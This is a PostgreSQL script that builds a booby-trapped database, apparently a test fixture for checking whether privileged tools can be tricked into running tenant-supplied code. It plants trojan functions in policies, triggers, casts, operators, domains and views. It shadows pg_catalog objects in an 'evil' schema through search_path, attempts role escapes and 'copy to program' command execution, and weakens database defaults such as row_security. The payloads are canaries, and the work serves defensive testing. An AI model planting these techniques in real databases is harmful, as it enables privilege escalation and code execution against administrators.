-- A database that turns against whoever looks at it. Its owner, `vendor`, is an ordinary role. Everything that anybody
-- could be made to run calls attack.strike(), which first tries to become somebody else; where it runs as anybody but
-- the tenant role or its own author, it says so in the server's log, which no rollback and no read-only transaction
-- undoes, and leaves a file, a role and a moved sequence if it can. Run by the owner of the database, with app_user and
-- intruder there.

create schema attack;
grant usage on schema attack to public;
create sequence attack.marks;
grant usage, update on sequence attack.marks to public;

create function attack.strike(via text) returns boolean language plpgsql set search_path = pg_catalog as $$
declare
  escape text;
begin
  foreach escape in array array['reset role', 'set role none', 'set local role none', 'reset session authorization',
                                'set session authorization default',
                                'set transaction read write', 'set statement_timeout = 0'] loop
    begin
      execute escape;
    exception when others then null;
    end;
  end loop;
  begin
    perform pg_catalog.set_config('role', 'none', true);
  exception when others then null;
  end;
  if current_user not in ('app_user', 'vendor', 'intruder') then
    raise log 'HOSTILE % as %', via, current_user;
    begin
      perform pg_catalog.nextval('attack.marks');
    exception when others then null;
    end;
    begin
      execute $x$copy (select 1) to program 'touch harness-was-here'$x$;
    exception when others then null;
    end;
    begin
      execute 'create role harness_was_here';
    exception when others then null;
    end;
    begin
      perform pg_catalog.pg_notify('harness', via);
    exception when others then null;
    end;
  end if;
  -- without LOCAL it outlives this function: whatever comes next is looked up there
  execute 'set search_path = evil, pg_catalog';
  return true;
exception when others then
  return true;
end $$;

-- 1. What policies call.
create function public.ctx() returns uuid language plpgsql stable as $$
begin
  perform attack.strike('policy');
  return nullif(current_setting('app.tenant_id', true), '')::uuid;
end $$;
-- IMMUTABLE and cheap, so that the planner runs it, when it estimates and when it folds constants
create function public.folded() returns uuid language plpgsql immutable cost 1 as $$
begin
  perform attack.strike('planner');
  return null::uuid;
end $$;
create function public.checked(uuid) returns boolean language plpgsql immutable
  as $$ begin perform attack.strike('constraint'); return true; end $$;
create function public.indexed(text) returns text language plpgsql immutable as $$ begin perform attack.strike('index');
return $1; end $$;
create function public.filled() returns text language plpgsql as $$ begin perform attack.strike('default'); return 'x';
end $$;
create function public.fired() returns trigger language plpgsql
  as $$ begin perform attack.strike('trigger ' || tg_when || ' ' || tg_level); return coalesce(new, old); end $$;
create function public.ruled() returns bigint language plpgsql as $$ begin perform attack.strike('rule'); return 1;
end $$;
create function public.viewed() returns boolean language plpgsql as $$ begin perform attack.strike('view'); return true;
end $$;
create domain public.mark as text check (attack.strike('domain'));
create type public.mood as enum ('calm', 'angry');
create function public.as_text(public.mood) returns text language plpgsql as $$ begin perform attack.strike('cast');
return 'x'; end $$;
create cast (public.mood as text) with function public.as_text(public.mood) as implicit;
create function public.equal(public.mood, public.mood) returns boolean language plpgsql
  as $$ begin perform attack.strike('operator'); return true; end $$;
create operator public.= (leftarg = public.mood, rightarg = public.mood, function = public.equal);

create table public.orders (
  tenant_id uuid not null default public.folded(), id bigint generated always as identity,
  note text default public.filled(), label public.mark, mood public.mood,
  shout text generated always as (public.indexed('x')) stored, check (public.checked(tenant_id))
);
create index on public.orders (tenant_id);
create index on public.orders (public.indexed(note));
create table public.open_notes (tenant_id uuid, note text);
create index on public.open_notes (tenant_id);
create table public.ruled_notes (tenant_id uuid, note text);
create index on public.ruled_notes (tenant_id);
create table public.members (user_id public.mood, tenant_id public.mood);
insert into public.members values ('calm', 'angry');
alter table public.orders enable row level security, force row level security;
alter table public.ruled_notes enable row level security, force row level security;
alter table public.members enable row level security, force row level security;
create policy t on public.orders to app_user
  using (tenant_id = public.ctx() or tenant_id = public.folded()) with check (tenant_id = (select public.ctx()));
create policy l on public.orders as restrictive to public using (attack.strike('restrictive'));
create policy t on public.ruled_notes to app_user using (tenant_id = (select public.ctx()));
create policy m on public.members using (attack.strike('membership'));
create trigger b before insert on public.orders for each row execute function public.fired();
create trigger a after insert on public.open_notes for each row execute function public.fired();
create trigger s after insert on public.open_notes for each statement execute function public.fired();
create constraint trigger d after insert
  on public.ruled_notes deferrable initially deferred for each row execute function public.fired();
create rule r as on insert to public.ruled_notes do also select public.ruled();
create view public.seen with (security_barrier = true) as select o.*, public.viewed() as v from public.orders o
                                                           where public.viewed();
create materialized view public.stored as select o.tenant_id from public.orders o where public.viewed();
create table public.months (tenant_id uuid not null, at date not null, note text) partition by range (at);
create table public.months_now partition of public.months for values from ('2026-01-01') to ('2027-01-01');
create table public.months_next partition of public.months for values from ('2027-01-01') to ('2028-01-01');
alter table public.months enable row level security, force row level security;
create policy t on public.months to app_user using (tenant_id = (select public.ctx()));
grant usage on schema public to app_user;
grant select, insert, update, delete on public.orders, public.open_notes, public.months, public.ruled_notes,
public.members, public.seen to app_user;

-- 2. Packs of ours, by their names alone.
create schema pii;
create table pii.tenant_keys (restaurant_id uuid, kid smallint, state text, wrapped_under bytea, wrapped bytea,
                              next_wrapped_under bytea, next_wrapped bytea);
create view pii.protected_tables as select 'public.orders'::text as relation, 'tenant_id'::name as tenant_column,
'id'::name as id_column, 'expand'::text as phase where attack.strike('registry');
create table pii.protected_columns (relation text, column_name name, plain_columns name[]);
create function pii.key_status() returns setof pii.tenant_keys language plpgsql
  as $$ begin perform attack.strike('key_status ' || coalesce(current_setting('app.pii.key', true), '')); end $$;
create schema partitions;
create view partitions.managed as select 'public.orders'::regclass as parent, 'UTC'::text as time_zone,
'month'::text as period where attack.strike('managed');
create schema outbox;
create view outbox.queues as select 'public.orders'::regclass as queue where attack.strike('queues');
create schema tenancy;
create function tenancy.protect(regclass, name) returns void language plpgsql
  as $$ begin perform attack.strike('protect'); end $$;
create function tenancy.claims() returns jsonb language plpgsql as $$ begin perform attack.strike('claims');
return '{}'; end $$;

-- 3. Whatever a statement of ours may name without saying where: each function, operator, relation and some types of
-- the server, once more.
create schema evil;
grant usage on schema evil to public;
do $do$
declare
  f record;
  name_of_type text;
begin
  for f in
    select p.oid, p.proname, pg_get_function_identity_arguments(p.oid) as arguments,
           p.prorettype::regtype::text as result,
           (select string_agg('$' || n, ', ') from generate_series(1, p.pronargs) as n) as numbers
      from pg_proc p
     where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and not p.proretset and p.provariadic = 0
       and p.proallargtypes is null
       and p.prorettype <> all (array['internal', 'cstring', 'trigger', 'event_trigger', 'void']::regtype[])
       and p.prorettype not in (select oid from pg_type where typtype = 'p')
       and not exists (select from unnest(p.proargtypes) as a join pg_type t on t.oid = a where t.typtype = 'p')
  loop
    begin
      execute format('create function evil.%I(%s) returns %s language plpgsql as %L', f.proname, f.arguments, f.result,
                     format('begin perform attack.strike(%L); return pg_catalog.%I(%s); end', 'function ' || f.proname,
                            f.proname, f.numbers));
    exception when others then null;
    end;
  end loop;
  for f in
    select o.oid, o.oprname, o.oprleft::regtype::text as a, o.oprright::regtype::text as b,
           o.oprresult::regtype::text as result
      from pg_operator o
     where o.oprkind = 'b' and o.oprnamespace = 'pg_catalog'::regnamespace
       and o.oprname in ('=', '<>', '<', '>', '||', '~', '!~', '~*', '->', '->>', '#>>', '@>', '<@', '&&', '?',
                         '+', '-', '&', '~~')
       and not exists (select from pg_type t where t.oid in (o.oprleft, o.oprright, o.oprresult) and t.typtype = 'p')
  loop
    begin
      execute format('create function evil.op_%s(%s, %s) returns %s language plpgsql as %L', f.oid, f.a, f.b, f.result,
                     format('begin perform attack.strike(%L); return $1 operator(pg_catalog.%s) $2; end',
                            'operator ' || f.oprname, f.oprname));
      execute format('create operator evil.%s (leftarg = %s, rightarg = %s, function = evil.op_%s)', f.oprname,
                     f.a, f.b, f.oid);
    exception when others then null;
    end;
  end loop;
  for f in
    select c.relname from pg_class c where c.relnamespace = 'pg_catalog'::regnamespace and c.relkind in ('r', 'v')
       and c.relname !~ 'statistic|_acl|subscription|user_mapping|authid|hba|ident|backend_mem|config|largeobject$'
  loop
    begin
      execute format('create view evil.%I as select * from pg_catalog.%I where attack.strike(%L)', f.relname,
                     f.relname, 'relation ' || f.relname);
      execute format('grant select on evil.%I to public', f.relname);
    exception when others then null;
    end;
  end loop;
  foreach name_of_type in array array['text', 'name', 'regclass', 'oid', 'uuid', 'jsonb', 'json', 'bool', 'int4',
                                      'int8', 'regprocedure', 'regrole'] loop
    execute format('create domain evil.%I as pg_catalog.%I check (attack.strike(%L))', name_of_type, name_of_type,
                   'type ' || name_of_type);
  end loop;
  execute format('alter database %I set search_path = evil, pg_catalog, public', current_database());
  execute format('alter database %I set quote_all_identifiers = on', current_database());
  execute format('alter database %I set standard_conforming_strings = off', current_database());
  execute format('alter database %I set backslash_quote = off', current_database());
  execute format('alter database %I set row_security = off', current_database());
  execute format('alter database %I set transform_null_equals = on', current_database());
  execute format('alter database %I set bytea_output = escape', current_database());
  execute format('alter database %I set datestyle = %L', current_database(), 'SQL, DMY');
  execute format('alter database %I set default_transaction_read_only = on', current_database());
  execute format('alter database %I set default_transaction_isolation = serializable', current_database());
  execute format('alter database %I set enable_seqscan = off', current_database());
end $do$;
